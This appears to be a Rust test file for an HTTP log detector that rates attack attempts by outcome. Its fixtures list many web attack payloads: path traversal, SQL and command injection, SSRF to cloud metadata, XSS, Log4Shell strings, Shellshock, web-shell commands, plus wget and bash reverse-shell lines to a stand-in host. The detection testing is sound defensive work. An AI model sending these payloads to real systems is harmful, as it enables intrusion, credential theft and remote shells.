//! Attempts are rated by their outcome: one is informational, several are medium, one with success is high.

use crate::{alerts_of_log, log_line};

const BROWSER: &str = "Mozilla/5.0";

/// Targets and user agents of an attacker. The status shows the outcome.
const TARGETS: &[(&str, &str)] = &[
    ("/view?file=../../../etc/passwd", BROWSER),
    ("/static/..%2f..%2f..%2fetc%2fpasswd", BROWSER),
    ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", BROWSER),
    ("/?page=....//....//boot.ini", BROWSER),
    ("/item?id=1%27%20OR%20%271%27%3D%271", BROWSER),
    ("/item?id=-1+UNION+ALL+SELECT+1,NULL,NULL", BROWSER),
    ("/item?id=1;waitfor%20delay%20%270:0:5%27", BROWSER),
    ("/item?id=1%20AND%20SLEEP(5)", BROWSER),
    ("/ping?host=127.0.0.1;cat%20/etc/hosts", BROWSER),
    ("/ping?host=127.0.0.1|id", BROWSER),
    ("/ping?host=127.0.0.1%0acat%20/etc/hosts", BROWSER),
    ("/ping?host=a.example%0Awget%20a.example", BROWSER),
    ("/ping?host=127.0.0.1%26dir", BROWSER),
    ("/ping?host=;$(printf%20id)", BROWSER),
    ("/run?c=a%0aid", BROWSER),
    ("/view?file=/var/log/auth.log", BROWSER),
    ("/view?file=zip://a.zip%23x.php", BROWSER),
    ("/fetch?url=http%253A%252F%252F169.254.169.254%252F", BROWSER),
    ("/fetch?url=//169.254.169.254/latest/", BROWSER),
    ("/fetch?url=http://instance-data/latest/", BROWSER),
    ("/fetch?url=http://a@127.0.0.1/", BROWSER),
    ("/fetch?webhook=http://localhost:9000/", BROWSER),
    ("/.git/refs/heads/main", BROWSER),
    ("/.htaccess", BROWSER),
    ("/%2eenv", BROWSER),
    ("/app/%2Egit/config", BROWSER),
    ("/.%65nv", BROWSER),
    ("/run?c=%60id%60;id;", BROWSER),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", BROWSER),
    ("/search?q=<svg/onload=confirm(1)>", BROWSER),
    ("/hello?name=%7B%7B7*7%7D%7D", BROWSER),
    ("/hello?name=${7*7}", BROWSER),
    ("/?x=${jndi:ldap://192.0.2.1/a}", BROWSER),
    ("/?x=%24%7B%24%7B::-j%7Dndi:ldap://192.0.2.1/a%7D", BROWSER),
    ("/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", BROWSER),
    ("/fetch?url=http://169.254.169.254/latest/meta-data/", BROWSER),
    ("/fetch?url=http%3A%2F%2Flocalhost%3A6379%2F", BROWSER),
    ("/fetch?path=file:///etc/hostname", BROWSER),
    ("/x?u=http://[::ffff:169.254.169.254]/", BROWSER),
    ("/x?u=http%3A%2F%2F0251.0376.0251.0376%2F", BROWSER),
    ("/proxy/http://169.254.169.254/latest/", BROWSER),
    ("/x?c=$(id)", BROWSER),
    ("/x?q=%23set($x=7*7)$x", BROWSER),
    ("/x?q[$where]=sleep", BROWSER),
    ("/x?q=%0d%0aSet-Cookie:%20a=b", BROWSER),
    ("/x?user=*)(uid=*))(|(uid=*", BROWSER),
    ("/dump.sql.gz", BROWSER),
    ("/infra/terraform.tfstate", BROWSER),
    ("/.config/gcloud/credentials.db", BROWSER),
    ("/.env", BROWSER),
    ("/.git/config", BROWSER),
    ("/uploads/c99.php", BROWSER),
    ("/cgi-bin/status", "() { :;}; /bin/cat /etc/hostname"),
    ("http://example.com/", BROWSER),
    // Double-encoded, overlong, and with other whitespace.
    ("/view?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", BROWSER),
    ("/static/..%c0%af..%c0%afconf", BROWSER),
    ("/item?id=1%2527%2520or%25201%253D1--", BROWSER),
    ("/item?id=7/**/union/*!50000select*/null,null", BROWSER),
    ("/item?id=7%09or%0a7%3d7", BROWSER),
    ("/item?name=x%27)%20or%20exists(select%201)--", BROWSER),
    ("/item?name=x'||(select+version())||'", BROWSER),
    ("/item?name=root%27--%20", BROWSER),
    ("/item?name=x%27;drop%20table%20orders", BROWSER),
    ("/item?name=x%22)%20and%20ascii(substr(user,1,1))>64", BROWSER),
    ("/item?id=if(1,2,3)%20or%20benchmark(9000,md5(1))", BROWSER),
    ("/item?id=9)%20or%20(9=9", BROWSER),
    ("/item?id=0%20union%20all%20select%20pw%20from%20users", BROWSER),
    ("/search?q=%22%3E%3Cbody%20onpageshow%3Dstart()%3E", BROWSER),
    ("/search?q=%3Cdetails%20open%20ontoggle%3Dgo%3E", BROWSER),
    ("/search?q=x%27%20onmouseenter=go()%20x=%27", BROWSER),
    ("/search?q=%3Cobject%20data=x%3E", BROWSER),
    ("/search?q=%u003cscript%u003ego()", BROWSER),
    ("/go?to=javascript:fetch(%27//192.0.2.1%27)", BROWSER),
    ("/go?to=data:text/html,hello", BROWSER),
    ("/search?q=%3Ciframe/src=//192.0.2.1%3E", BROWSER),
    ("/search?q=%5B%5D%5B(!%5B%5D%2B%5B%5D)%5D", BROWSER),
    ("/hello?name=%2523%257B7*7%257D", BROWSER),
    ("/hello?name={{''.__class__.__mro__}}", BROWSER),
    ("/api?a[__proto__][admin]=1", BROWSER),
    ("/page?t=%3C%3Fphp%20echo%201%3B%3F%3E", BROWSER),
    ("/page?t=O:4:%22User%22:1:%7Bs:1:%22a%22%3Bi:1%3B%7D", BROWSER),
    ("/ping?host=a%26%26wget%20http://192.0.2.1/x", BROWSER),
    ("/ping?host=$(cat$IFS/etc/fstab)", BROWSER),
    ("/ping?host=%7Cid", BROWSER),
    ("/ping?host=x%20%26%20for%20%25a%20in%20(1)%20do%20ver", BROWSER),
    ("/ping?host=a;bash+-i+>%26+/dev/tcp/192.0.2.1/9", BROWSER),
    // By characters that programs take for others, in other forms of an address, and by operators.
    ("/view?file=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/conf", BROWSER),
    ("/view?file=%uff0e%uff0e%u2215%uff0e%uff0e%u2216conf", BROWSER),
    ("/view?file=..%ef%bc%8f..%ef%bc%8fconf", BROWSER),
    ("/view?file=..%c0%2f..%c1%1cconf", BROWSER),
    ("/view?file=%5cu002e%5cu002e/%5cu002e%5cu002e/conf", BROWSER),
    ("/view?file=/proc/1/cmdline", BROWSER),
    ("/..;/etc/passwd", BROWSER),
    ("/view?file=%27/etc/passwd%27", BROWSER),
    ("/ping?host=a;w%27h%27oami", BROWSER),
    ("/ping?host=a;/???/??t%20/x", BROWSER),
    ("/ping?host=a;c${x}at%20/x", BROWSER),
    ("/hello?name={{request%7Cattr(%27x%27)}}", BROWSER),
    ("/hello?name={{=7*7}}", BROWSER),
    ("/?x=${j${k8s:k5:-nd}i:ldap://a}", BROWSER),
    ("/?x=%5cu0024%5cu007bjndi:ldap://a}", BROWSER),
    ("/?x=${java:version}", BROWSER),
    ("/x?u=http://metadata/computeMetadata/v1/", BROWSER),
    ("/x?u=http://0xa9.0xfe.0xa9.0xfe/", BROWSER),
    ("/x?u=http://169.254.43518/", BROWSER),
    ("/x?u=http://025177524776/", BROWSER),
    ("/x?u=http://[0:0:0:0:0:ffff:a9fe:a9fe]/", BROWSER),
    ("/x?u=169.254.169.254/latest/", BROWSER),
    ("/x?u=http:169.254.169.254/", BROWSER),
    ("/x?u=http://%E2%91%A0%E2%91%A5%E2%91%A8.254.169.254/", BROWSER),
    ("/x?u=http://169%E3%80%82254%E3%80%82169%E3%80%82254/", BROWSER),
    ("/x?url=http://[::ffff:127.0.0.1]/", BROWSER),
    ("/x?url=http://0177.0.0.1/", BROWSER),
    ("/x?u=unix:///run/x.sock", BROWSER),
    ("/l?user[$ne]=x&pass[$ne]=y", BROWSER),
    ("/l?pass%5B%24regex%5D=.*", BROWSER),
    ("/l?u=admin)(%26)", BROWSER),
    ("/l?u=*)(objectClass=*", BROWSER),
    ("/l?u=%27%5D%20%7C%20//*", BROWSER),
    ("/l?u=%27+or+count(/*)=1", BROWSER),
    ("/x?q=%E5%98%8A%E5%98%8DSet-Cookie:a", BROWSER),
    ("/x?q=%23%0dSet-Cookie:a=b", BROWSER),
    ("/x?q=%0d%0aContent-Length:%200", BROWSER),
    ("/x?o=rO0ABXNyABdq", BROWSER),
    ("/x?GLOBALS[x]=1", BROWSER),
    ("/x?o=%AC%ED%00%05", BROWSER),
    ("/.git/", BROWSER),
    ("/.env.swp", BROWSER),
    ("/backup.tar.gz", BROWSER),
    ("/db.sqlite3", BROWSER),
    ("/app/heapdump", BROWSER),
    ("/phpinfo.php", BROWSER),
    ("/item?name=x%25%27%20AND%20%27%25%27%3D%27", BROWSER),
    ("/item?id=7*IF(1=1,1,2)", BROWSER),
    ("/ping?host=%26%20dir%20c:%5C", BROWSER),
    ("/ping?host=%3Becho+hi", BROWSER),
    ("/fetch?webhook=http://192.168.7.1/", BROWSER),
    ("/fetch?image_url=http%3A%2F%2F172.20.0.9%3A2375%2F", BROWSER),
    ("/fetch?feedUrl=http://localhost:8500/", BROWSER),
    ("/search?q=x&url=http://169.254.169.254/", BROWSER),
    ("/backups/site.tar.gz", BROWSER),
    ("/shop_backup.zip", BROWSER),
    ("/rest/tinymce/1/macro/preview", BROWSER),
    ("/nacos/v1/auth/users?pageNo=1", BROWSER),
    ("/actuator/env", BROWSER),
    ("/WEB-INF/web.xml", BROWSER),
    ("/app/WEB-INF/classes/x.class", BROWSER),
    ("/app//WEB-INF/web.xml", BROWSER),
    ("/a/b/%3b/web-inf/web.xml", BROWSER),
    ("/view?file=WEB-INF/web.xml", BROWSER),
    ("/META-INF/context.xml", BROWSER),
    ("/view?file=c:%5Cboot.ini", BROWSER),
    ("/proc/self/environ", BROWSER),
    ("/view?file=/proc/7/environ", BROWSER),
    ("/x?q=%22%3Bdocument.location%3D%27//192.0.2.1%27", BROWSER),
    ("/x?c=document.cookie", BROWSER),
    ("/x?c=document.body.innerHTML", BROWSER),
    ("/x?q=require(%27child_process%27)", BROWSER),
    ("/x?__proto__.admin=1", BROWSER),
    ("/x?q=T(java.lang.Runtime)", BROWSER),
    (
        "/news/query?q=select%20a%20from%20b&cat=-1%20union%20select%201,user_pass,3%20from%20wp_users",
        BROWSER,
    ),
    ("/query?q=select%20a%20from%20b&name='%20or%20'1'='1", BROWSER),
    ("/?query=show%20'%20union%20select%20password%20from%20users%20where%20'1'='1", BROWSER),
    ("/search.json?q=select%20a%20from%20b'%20union%20select%20password%20from%20users--", BROWSER),
    ("/query?q=select%20a%20from%20b%20into%20outfile%20'/var/www/x.php'", BROWSER),
    ("/s/x/_/WEB-INF/web.xml", BROWSER),
    ("/s/x/_/META-INF/maven/com.example/core/pom.xml", BROWSER),
    ("/concat?/%2557EB-INF/web.xml", BROWSER),
    ("/app/%2e/WEB-INF/web.xml", BROWSER),
    ("/x?f=webapps/ROOT/WEB-INF/web.xml", BROWSER),
    ("/WEB-INF/classes/META-INF/maven/g/a/pom.xml", BROWSER),
    ("/item?id=1%20and%203%20between%203%20and%203", BROWSER),
    ("/item?id=1%23a%0Aunion%23b%0Aselect%23c%0A1", BROWSER),
    ("/login?next=../../etc/passwd", BROWSER),
    ("/index.php?%ADd+allow_url_include%3d1", BROWSER),
    ("/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", BROWSER),
    ("/app/rest/users;.jsp", BROWSER),
    ("/x?q=%2561%256C%2565%2572%2574", BROWSER),
    ("/item?q=config.__class__.__init__.__globals__", BROWSER),
    ("/x?expr=process.mainModule.require", BROWSER),
    ("/j?__proto__=polluted", BROWSER),
    ("/j?key=__proto__", BROWSER),
    ("/x?f=%20/proc/self/environ", BROWSER),
    ("/download/proc/self/environ", BROWSER),
    ("/p?page=../boot.ini%00.html", BROWSER),
    ("/p?page=..0x2fboot.ini", BROWSER),
    ("/x?cmd=type%20c:%5Cboot.ini", BROWSER),
    ("/a/swagger/fetch?url=http://192.168.1.1/admin", BROWSER),
    ("/api-docs/proxy?url=http://127.0.0.1:8080/", BROWSER),
    ("/probe?u=http://127.0.0.1/admin&target=http", BROWSER),
    ("/x?n='-document.domain-'", BROWSER),
    ("/x?n=${document.domain}", BROWSER),
    ("/uploads/x.php?cmd=cat+/etc/passwd", BROWSER),
    ("/uploads/x.php?cmd=id", BROWSER),
    ("/uploads/x.php?c=id", BROWSER),
    ("/uploads/x.php?c=whoami", BROWSER),
    ("/uploads/x.php?exec=whoami", BROWSER),
    ("/uploads/x.php?cmd=uname+-a", BROWSER),
    ("/uploads/x.php?cmd=ls+/", BROWSER),
    ("/uploads/x.php?cmd=ls", BROWSER),
    ("/a.aspx?cmd=ipconfig+/all", BROWSER),
    ("/a.php?cmd=find+/+-perm+-4000", BROWSER),
    ("/a.jsp?x=1&cmd=cat%20/etc/shadow", BROWSER),
    ("/+CSCOT+/translation-table?type=mst", BROWSER),
    ("/view?file=/var/run/secrets/kubernetes.io/serviceaccount/token", BROWSER),
    ("/view?file=/etc//passwd", BROWSER),
    ("/view?file=/etc/./passwd", BROWSER),
    ("/view?file=/var/www/html/wp-config.php", BROWSER),
    ("/view?file=/opt/tomcat/conf/tomcat-users.xml", BROWSER),
    ("/users.sql", BROWSER),
    ("/mysqldump.sql.gz", BROWSER),
    ("/backup/2024-01-01.sql.gz", BROWSER),
    ("/config/database.yml", BROWSER),
    ("/server-status", BROWSER),
    ("/debug/pprof/heap", BROWSER),
    ("/v1.41/containers/json", BROWSER),
    ("/x?m=a%0d%0aLocation:%20//192.0.2.1", BROWSER),
    ("/x?m=a%0d%0aX-Injected:%201", BROWSER),
    // Nobody hides behind the name of a program.
    ("/.env", "git/2.39.2"),
    ("/.git/config", "git/2.39.2"),
    ("/backup.zip", "git/2.39.2"),
];

/// Requests that mean little alone: informational whatever the status.
const PIECES: &[&str] = &[
    "/blog/data:image/svg+xml;utf8,%3Csvg%20xmlns=%27http://www.w3.org/2000/svg%27%3E",
    "/wiris?mml=%3Cmath%20xmlns=%22http://www.w3.org/1998/Math/MathML%22%3E%3Cmi%3Ex%3C/mi%3E%3C/math%3E",
    "/search?q=document.cookie",
    "/x?q=String.fromCharCode(",
    "/item?id=1+group+by+x+having+1",
    "/item?id=hex(7)",
    "/item?id=select+name,id+from+shop",
    "/item?id=3,null,null",
    "/item?id=1+order+by+9--",
    "/search?q=%3Cb%3Ehello",
    "/search?q=%3Cbr",
    "/go?to=javascript:x",
    // What somebody looks for.
    "/search?q=sleep(5)+in+python",
    "/find?lang=en&s=system()+call+in+c&page=2",
    "/search?q=%2Fetc%2Fhosts+on+windows",
    "/search?query=how+does+%3Cscript%3E+work",
    "/search?query=%3Cscript%3E%20in%20html",
    "/search?q=%3Ca+href%3D%22http%3A%2F%2Fshop.example%22%3Elink%3C%2Fa%3E",
    "/preview?text=%3Cp+style%3D%22color:red%22%3Ehello",
];

/// Attempts whose status does not show whether they succeeded.
const SILENT: &[(&str, &str)] = &[
    ("/", "${jndi:ldap://192.0.2.1/a}"),
    ("/", "() { :;}; /bin/id"),
    ("/", "<script>go()</script>"),
    ("/", "x' or '1'='1"),
    ("/", "<?php echo 1"),
];

fn has(alerts: &[(String, u64)], rule: &str) -> bool {
    alerts.iter().any(|(name, _)| name == rule)
}

#[test]
fn one_attempt_is_informational_and_an_answered_one_is_high() {
    let statuses = [400, 403, 404, 500, 200];
    let mut cases = Vec::new();
    for (target, agent) in TARGETS {
        cases.extend(statuses.map(|status| (*target, *agent, status)));
    }
    let lines = cases.iter().enumerate();
    let lines = lines.map(|(client, (target, agent, status))| {
        log_line(client, client, ("GET", target), *status, agent)
    });
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, (target, agent, status)) in cases.into_iter().enumerate() {
        let alerts = alerts.get(&client).cloned().unwrap_or_default();
        let case = format!("{target} {agent} {status}: {alerts:?}");
        if status == 200 {
            let answered = ("http-attack-answered".to_owned(), 7);
            assert!(alerts.contains(&answered), "{case}");
        } else {
            assert!(has(&alerts, "http-attack-attempt"), "{case}");
            assert!(alerts.iter().all(|(_, severity)| *severity == 0), "{case}");
        }
    }
}

#[test]
fn a_piece_is_informational_even_if_it_is_answered() {
    let lines = PIECES.iter().enumerate();
    let lines = lines.map(|(client, target)| log_line(client, 0, ("GET", target), 200, BROWSER));
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, target) in PIECES.iter().enumerate() {
        let alerts = alerts.get(&client).cloned().unwrap_or_default();
        let attempt = ("http-attack-attempt".to_owned(), 0);
        assert_eq!(alerts, [attempt], "{target}");
    }
}

#[test]
fn where_the_status_tells_nothing_an_answer_is_none() {
    let lines = SILENT.iter().enumerate();
    let lines =
        lines.map(|(client, (target, agent))| log_line(client, 0, ("GET", target), 200, agent));
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, (_, agent)) in SILENT.iter().enumerate() {
        let alerts = &alerts[&client];
        assert!(has(alerts, "http-attack-attempt"), "{agent}: {alerts:?}");
        assert!(!has(alerts, "http-attack-answered"), "{agent}: {alerts:?}");
    }
}

/// Fields beside those of an access log, with an attack in them, and what is none.
const FIELDS: &[(&str, &str, bool)] = &[
    ("x-api-version", "${${lower:j}ndi:ldap://192.0.2.1}", true),
    ("x-forwarded-for", "${jndi:ldap://192.0.2.1}", true),
    ("user-agent", "${j${k8s:k5:-nd}i:ldap://192.0.2.1}", true),
    ("cookie", "rememberMe=rO0ABXNy", true),
    ("accept-language", "${jndi:ldap://192.0.2.1}", true),
    ("origin", "${jndi:ldap://192.0.2.1}", true),
    ("if-modified-since", "${jndi:ldap://192.0.2.1}", true),
    ("authorization", "Basic ${jndi:ldap://192.0.2.1}", true),
    ("content-type", "${${::-j}ndi:ldap://192.0.2.1}", true),
    ("x-client-ip", "${${lower:j}ndi:ldap://192.0.2.1}", true),
    ("content-type", "%{(#_='x').(#dm=@ognl.OgnlContext@X)}", true),
    ("spring.cloud.function.routing-expression", "T(x)", true),
    ("x-middleware-subrequest", "middleware:middleware", true),
    ("x-pan-authcheck", "off", true),
    ("content-type", "multipart/form-data; boundary=x", false),
    ("accept-language", "en-US,en;q=0.9", false),
    ("origin", "https://a.example", false),
    ("x-api-version", "2", false),
    ("x-real-ip", "192.0.2.1", false),
];

#[test]
fn attacks_in_other_fields_are_informational() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("events.jsonl");
    let events = FIELDS.iter().enumerate().map(|(client, (name, value, _))| {
        let at = "2026-11-24T10:00:00Z";
        format!(
            "{{\"@timestamp\":\"{at}\",\"event\":{{\"kind\":\"event\"}},\"source\":{{\"ip\":\"198.51.0.{client}\"}},\"url\":{{\"original\":\"/\"}},\
             \"http\":{{\"request\":{{\"method\":\"GET\",\"headers\":{{\"{name}\":[\"{value}\"]}}}},\
             \"response\":{{\"status_code\":200}}}}}}\n"
        )
    });
    std::fs::write(&file, events.collect::<String>()).unwrap();
    let ran = crate::command::run(&["detect", "-o", "json", file.to_str().unwrap()]);
    let alerts = crate::command::records(&ran.out);
    for (client, (name, value, is_attack)) in FIELDS.iter().enumerate() {
        let of = |alert: &&serde_json::Value| {
            alert["http_trace"]["alert"]["clients"][0]["value"] == format!("198.51.0.{client}")
        };
        let raised = alerts.iter().filter(of);
        let raised: Vec<_> = raised.map(|alert| &alert["rule"]["id"]).collect();
        let case = format!("{name}: {value}: {raised:?} {}", ran.err);
        assert_eq!(raised.iter().any(|id| **id == "http-attack-attempt"), *is_attack, "{case}");
        assert!(!raised.iter().any(|id| **id == "http-attack-answered"), "{case}");
    }
}

/// A script gets every field as a variable; the host may name an archive.
#[test]
fn fields_of_scripts_and_archives_of_hosts_are_attacks() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("events.jsonl");
    let cases = [
        ("/cgi-bin/x", "x-any", "() { :;}; /bin/id", true),
        ("/a.cgi", "accept", "() { :;}; /bin/id", true),
        ("/cgi-bin/x", "x-any", "f () of x", false),
        ("/x", "x-any", "() { return 1 }", false),
        ("/www.shop.example.zip", "host", "www.shop.example", true),
        ("/shop.example.sql.gz", "host", "www.shop.example:80", true),
        ("/other.example.zip", "host", "www.shop.example", false),
    ];
    let events = cases.iter().enumerate().map(|(client, (target, name, value, _))| {
        let event = serde_json::json!({
            "@timestamp": "2026-11-24T10:00:00Z",
            "event": {"kind": "event"},
            "source": {"ip": format!("198.51.0.{client}")},
            "url": {"original": target},
            "http": {"request": {"method": "GET", "headers": {*name: [value]}}, "response": {"status_code": 200}},
        });
        format!("{event}\n")
    });
    std::fs::write(&file, events.collect::<String>()).unwrap();
    let ran = crate::command::run(&["detect", "-o", "json", file.to_str().unwrap()]);
    let alerts = crate::command::records(&ran.out);
    for (client, case) in cases.iter().enumerate() {
        let of = |alert: &&serde_json::Value| {
            alert["http_trace"]["alert"]["clients"][0]["value"] == format!("198.51.0.{client}")
        };
        let raised = alerts.iter().filter(of);
        let mut ids = raised.map(|alert| &alert["rule"]["id"]);
        assert_eq!(ids.any(|id| id == "http-attack-answered"), case.3, "{case:?}");
    }
}

#[test]
fn several_attempts_are_medium() {
    let all: Vec<_> = TARGETS.iter().chain(SILENT).collect();
    let lines = (0..5).flat_map(|second| {
        let lines = all.iter().enumerate();
        lines.map(move |(client, (target, agent))| {
            log_line(client, second, ("GET", target), 404, agent)
        })
    });
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, (target, _)) in all.iter().enumerate() {
        let several = ("http-attack-attempts".to_owned(), 5);
        assert!(alerts[&client].contains(&several), "{target}: {:?}", alerts[&client]);
    }
}
